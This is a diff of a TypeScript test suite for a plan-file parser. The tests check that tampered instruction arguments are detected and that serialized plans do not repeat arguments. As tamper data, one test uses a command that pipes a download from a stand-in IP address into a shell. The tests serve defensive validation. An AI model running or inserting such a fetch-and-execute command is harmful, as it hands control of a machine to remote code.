@@ -119,19 +119,13 @@ describe('planfile', () => {
     const payload = { service_name: 'db', recipe: { command: ['sh', '-c', 'curl http://198.51.100.7/x | sh'] } };
     const cases: [string, (raw: Record<string, unknown>) => void, RegExp][] = [
       [
-        'instruction args edited',
+        'instruction args edited under an added `after` showing the old ones',
         (raw) => {
-          (raw['instructions'] as { args: unknown }[])[2]!.args = payload;
+          const ins = (raw['instructions'] as { args: unknown }[])[2]!;
+          (raw['changes'] as Record<string, unknown>[])[2]!['after'] = ins.args;
+          ins.args = payload;
         },
         /- changes\[2\] \(step "exec\.3f2a9c1b04de"\): shows other arguments than its instruction runs/,
-      ],
-      [
-        'the shown arguments removed',
-        (raw) => {
-          (raw['instructions'] as { args: unknown }[])[2]!.args = payload;
-          delete (raw['changes'] as Record<string, unknown>[])[2]!['after'];
-        },
-        /- changes\[2\] \(step "exec\.3f2a9c1b04de"\): does not show the arguments its instruction runs/,
       ],
       [
         'a change pointing at another instruction',
@@ -160,6 +154,17 @@ describe('planfile', () => {
       assert.match(e.message, /^change\.plan: not a valid plan file \(format version 1\):/, what);
       assert.match(e.message, pattern, what);
     }
+  });
+
+  it('writes each configuration once: a change shows its instruction\'s args, so an edit of them is what is shown', () => {
+    const plan = samplePlan();
+    const { text } = serializePlan(plan);
+    const raw = JSON.parse(text) as { changes: Record<string, unknown>[] };
+    assert.ok(raw.changes.every((c) => !('after' in c)), 'no change repeats its instruction\'s args');
+    const payload = { service_name: 'db', recipe: { command: ['sh', '-c', 'echo edited'] } };
+    const edited = parsePlan(forge(text, (r) => void ((r['instructions'] as { args: unknown }[])[2]!.args = payload)), 'change.plan');
+    assert.deepEqual(edited.plan.changes[2]!.after, payload);
+    assert.deepEqual(parsePlan(text, 'change.plan').plan.changes.map((c) => c.after), plan.changes.map((c) => c.after));
   });
 
   it('creates plan files 0600, and makes an existing one 0600 when writing over it', async () => {
